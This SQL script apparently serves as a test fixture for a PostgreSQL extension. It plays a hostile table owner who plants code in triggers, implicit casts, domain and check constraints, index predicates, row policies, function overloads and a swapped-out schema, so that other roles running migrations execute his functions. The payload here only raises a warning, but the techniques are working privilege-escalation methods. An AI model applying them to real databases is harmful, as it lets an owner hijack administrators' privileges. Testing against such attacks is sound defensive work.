-- An owner of a warehouse, roles.owner, who hides code in all his objects. Run as the owner, in a database that has
-- the extension in schema retail. Every piece of his code says as whom it runs: "payload ran as ...".
\set QUIET on
SET client_min_messages = warning;
SET search_path = '';
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;

CREATE FUNCTION evil.payload(place text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    RAISE WARNING 'payload ran as % in %, search_path %', current_user, place, current_setting('search_path');
END $$;
-- The planner evaluates immutable functions, so the planner and each reader run these.
CREATE FUNCTION evil.yes(place text, nothing anyelement) RETURNS boolean IMMUTABLE PARALLEL SAFE LANGUAGE plpgsql AS $$
BEGIN
    PERFORM evil.payload(place);
    RETURN true;
END $$;
CREATE FUNCTION evil.number(place text, nothing anyelement) RETURNS integer IMMUTABLE PARALLEL SAFE LANGUAGE plpgsql AS $$
BEGIN
    PERFORM evil.payload(place);
    RETURN 1;
END $$;
CREATE FUNCTION evil.on_row() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM evil.payload('trigger ' || TG_NAME || ' of ' || TG_TABLE_NAME);
    RETURN CASE WHEN TG_OP = 'DELETE' THEN OLD ELSE NEW END;
END $$;

-- A type with a cast of the owner's to boolean: every role that writes "WHERE flag" runs it.
CREATE TYPE evil.flag AS (b boolean);
CREATE FUNCTION evil.to_bool(f evil.flag) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $$
BEGIN
    PERFORM evil.payload('cast');
    RETURN (f).b;
END $$;
CREATE FUNCTION evil.to_flag(b boolean) RETURNS evil.flag IMMUTABLE LANGUAGE sql AS 'SELECT ROW(b)::evil.flag';
CREATE CAST (evil.flag AS boolean) WITH FUNCTION evil.to_bool(evil.flag) AS IMPLICIT;
CREATE CAST (boolean AS evil.flag) WITH FUNCTION evil.to_flag(boolean) AS IMPLICIT;
CREATE DOMAIN evil.checked AS integer CHECK (evil.yes('domain', 1));

-- Code that an owner may put into a table of his. A piece that the server refuses is left out.
CREATE PROCEDURE evil.try(statement text) LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE statement;
EXCEPTION WHEN OTHERS THEN
    NULL;
END $$;
CREATE PROCEDURE evil.tamper(target regclass) LANGUAGE plpgsql AS $$
DECLARE
    name text := target::text;
BEGIN
    CALL evil.try(format('CREATE TRIGGER evil_before BEFORE INSERT OR UPDATE OR DELETE ON %s FOR EACH ROW EXECUTE FUNCTION evil.on_row()', name));
    CALL evil.try(format('CREATE TRIGGER evil_after AFTER INSERT OR UPDATE OR DELETE ON %s FOR EACH ROW EXECUTE FUNCTION evil.on_row()', name));
    CALL evil.try(format('CREATE TRIGGER evil_statement AFTER INSERT OR UPDATE OR DELETE ON %s FOR EACH STATEMENT EXECUTE FUNCTION evil.on_row()', name));
    CALL evil.try(format('ALTER TABLE %s ADD CONSTRAINT evil_check CHECK (evil.yes(%L, 1)) NO INHERIT', name, 'check of ' || name));
    CALL evil.try(format('ALTER TABLE %s ADD CONSTRAINT evil_check_id CHECK (evil.yes(%L, id)) NO INHERIT', name, 'check of the id of ' || name));
    CALL evil.try(format('CREATE INDEX ON %s ((evil.number(%L, ctid))) WHERE evil.yes(%L, 1)', name, 'index of ' || name, 'predicate of ' || name));
    CALL evil.try(format('CREATE INDEX ON %s ((1)) WHERE evil.yes(%L, 1)', name, 'predicate of ' || name));
    CALL evil.try(format('CREATE INDEX ON %s ((evil.number(%L, 1)))', name, 'index of ' || name));
    CALL evil.try(format('CREATE STATISTICS ON (evil.number(%L, 1)) FROM %s', 'statistics of ' || name, name));
    CALL evil.try(format('CREATE POLICY evil_policy ON %s USING (evil.yes(%L, 1))', name, 'policy of ' || name));
END $$;

-- All tables that are the owner's.
CREATE PROCEDURE evil.tamper_tables() LANGUAGE plpgsql AS $$
DECLARE
    each regclass;
BEGIN
    FOR each IN SELECT oid::regclass FROM pg_catalog.pg_class WHERE relnamespace = 'retail'::regnamespace
            AND relkind = 'r' AND relowner = current_user::regrole LOOP
        CALL evil.tamper(each);
    END LOOP;
END $$;

-- All functions that are the owner's get another body, under the same signature.
CREATE PROCEDURE evil.replace_functions() LANGUAGE plpgsql AS $$
DECLARE
    each record;
BEGIN
    FOR each IN SELECT p.oid, p.proname, pg_catalog.pg_get_function_arguments(p.oid) AS arguments,
            pg_catalog.pg_get_function_result(p.oid) AS result
            FROM pg_catalog.pg_proc p WHERE pronamespace = 'retail'::regnamespace AND proowner = current_user::regrole LOOP
        CALL evil.try(format('CREATE OR REPLACE FUNCTION retail.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', each.proname,
            each.arguments, each.result, format('BEGIN PERFORM evil.payload(%L); RETURN NULL; END', 'function ' || each.proname)));
        CALL evil.try(format('CREATE OR REPLACE FUNCTION retail.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', each.proname,
            each.arguments, each.result, format('BEGIN PERFORM evil.payload(%L); END', 'function ' || each.proname)));
    END LOOP;
END $$;

-- Functions that match a call better than ours, or have the name of one that a script creates.
CREATE PROCEDURE evil.lie_in_wait() LANGUAGE plpgsql AS $$
DECLARE
    name text;
BEGIN
    FOREACH name IN ARRAY '{migration_check,check_step,hand_over,give_to_owner,run_as_owner,copy_grants,take_functions_back}'::text[] LOOP
        CALL evil.try(format('CREATE FUNCTION retail.%I(varchar, varchar) RETURNS void LANGUAGE plpgsql AS $f$BEGIN PERFORM evil.payload(%L); END$f$', name, 'overload ' || name));
        CALL evil.try(format('CREATE FUNCTION retail.%I(oid) RETURNS void LANGUAGE plpgsql AS $f$BEGIN PERFORM evil.payload(%L); END$f$', name, 'overload ' || name));
        CALL evil.try(format('CREATE FUNCTION retail.%I(oid, varchar) RETURNS void LANGUAGE plpgsql AS $f$BEGIN PERFORM evil.payload(%L); END$f$', name, 'overload ' || name));
        CALL evil.try(format('CREATE FUNCTION retail.%I(VARIADIC text[]) RETURNS void LANGUAGE plpgsql AS $f$BEGIN PERFORM evil.payload(%L); END$f$', name, 'overload ' || name));
    END LOOP;
END $$;

-- Leads the name of the schema to another one, in which functions wait for a script.
CREATE PROCEDURE evil.swap_schema() LANGUAGE plpgsql AS $$
BEGIN
    ALTER SCHEMA retail RENAME TO hidden;
    CREATE SCHEMA retail;
    CALL evil.lie_in_wait();
    CREATE FUNCTION retail.check_step(text, text) RETURNS void LANGUAGE plpgsql AS 'BEGIN PERFORM evil.payload(''swapped check_step''); END';
    CREATE FUNCTION retail.migration_check(text, text) RETURNS void LANGUAGE plpgsql AS 'BEGIN PERFORM evil.payload(''swapped migration_check''); END';
    CREATE FUNCTION retail.run_as_owner(regclass, text) RETURNS void LANGUAGE plpgsql AS 'BEGIN PERFORM evil.payload(''swapped run_as_owner''); END';
    CREATE FUNCTION retail.give_to_owner(regclass) RETURNS void LANGUAGE plpgsql AS 'BEGIN PERFORM evil.payload(''swapped give_to_owner''); END';
    CREATE FUNCTION retail.hand_over(regclass) RETURNS void LANGUAGE plpgsql AS 'BEGIN PERFORM evil.payload(''swapped hand_over''); END';
    CREATE TABLE retail.store (id integer);
    CREATE TABLE retail.holiday_rule (calendar text, name text, rule text, from_year integer, to_year integer, category text, source text, shipped boolean);
    CREATE TABLE retail.holiday_date (calendar text, date date, name text, action text, status text, category text, source text, shipped boolean);
    CREATE TABLE retail.shipped_holiday_rule () INHERITS (retail.holiday_rule);
    CALL evil.tamper('retail.store');
    CALL evil.tamper('retail.holiday_rule');
    CALL evil.tamper('retail.holiday_date');
    CALL evil.tamper('retail.shipped_holiday_rule');
END $$;
CREATE FUNCTION evil.on_row_swap() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF pg_catalog.current_setting('evil.armed', true) = 'on' AND pg_catalog.to_regnamespace('hidden') IS NULL THEN
        PERFORM evil.payload('swapping trigger');
        CALL evil.swap_schema();
    END IF;
    RETURN CASE WHEN TG_OP = 'DELETE' THEN OLD ELSE NEW END;
END $$;
CREATE FUNCTION evil.swap(nothing anyelement) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    IF pg_catalog.current_setting('evil.armed', true) = 'on' AND pg_catalog.to_regnamespace('hidden') IS NULL THEN
        PERFORM evil.payload('swapping check');
        CALL evil.swap_schema();
    END IF;
    RETURN true;
END $$;

-- A member is dropped, and another object gets its name.
CREATE FUNCTION evil.on_statement_replace() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF to_regprocedure('retail.add_business_days(date,integer,text)') IS NOT NULL THEN
        PERFORM evil.payload('replacing trigger');
        DROP FUNCTION retail.add_business_days(date, integer, text);
        CREATE FUNCTION retail.add_business_days(date date, days integer, calendar text) RETURNS date LANGUAGE plpgsql
            AS 'BEGIN PERFORM evil.payload(''add_business_days''); RETURN date; END';
    END IF;
    RETURN NULL;
END $$;

-- A view is created and dropped under the name of a sequence.
CREATE PROCEDURE evil.flicker(times integer) LANGUAGE plpgsql AS $$
BEGIN
    FOR time IN 1..times LOOP
        CREATE VIEW retail.sales_daily_id_seq AS SELECT evil.number('flickering view', 1)::bigint AS last_value;
        COMMIT;
        DROP VIEW retail.sales_daily_id_seq;
        COMMIT;
    END LOOP;
END $$;
